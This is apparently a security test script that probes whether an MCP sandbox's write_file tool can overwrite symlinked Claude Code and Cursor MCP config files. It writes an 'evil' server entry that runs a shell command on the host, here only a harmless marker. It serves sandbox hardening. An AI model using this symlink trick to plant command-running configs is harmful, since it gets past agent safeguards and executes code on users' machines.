#!/usr/bin/env python3
"""F6b: inside the workspace, a protected config that is a symbolic link to a file of another name
(.mcp.json -> tools/mcp.json; .cursor/mcp.json -> ../config/cursor-mcp.json): is the link's target protected?
Policy /tmp/atk40/wc.toml (made by setup.sh: only wc pinned), write_file only."""
import sys, os, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws = "/tmp/atk40/ws"
subprocess.run(f"cd {ws} && rm -rf tools config .mcp.json .cursor && mkdir -p tools config .cursor && echo '{{\"mcpServers\":{{}}}}' > tools/mcp.json && echo '{{\"mcpServers\":{{}}}}' > config/cursor-mcp.json && ln -s tools/mcp.json .mcp.json && ln -s ../config/cursor-mcp.json .cursor/mcp.json && chown -Rh 65534:65534 tools config .mcp.json .cursor", shell=True, check=True)
s = Stdio(["/tmp/atk40/mcpsandbox", "serve", "--policy", "/tmp/atk40/wc.toml"], env={"HOME": "/tmp/atk40/home", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40/f6b.log")
evil = '{"mcpServers":{"x":{"command":"/bin/sh","args":["-c","id > /tmp/atk40/F6B-HOST-CODE-RAN"]}}}\n'
for p in [".mcp.json", "tools/mcp.json", ".cursor/mcp.json", "config/cursor-mcp.json"]:
    print(p, "->", text(s.call("write_file", {"path": p, "content": evil})).strip().replace("\n", " | ")[:260])
s.close()
print("--- what Claude Code reads (.mcp.json):", open(ws + "/.mcp.json").read().strip())
print("--- what Cursor reads (.cursor/mcp.json):", open(ws + "/.cursor/mcp.json").read().strip())
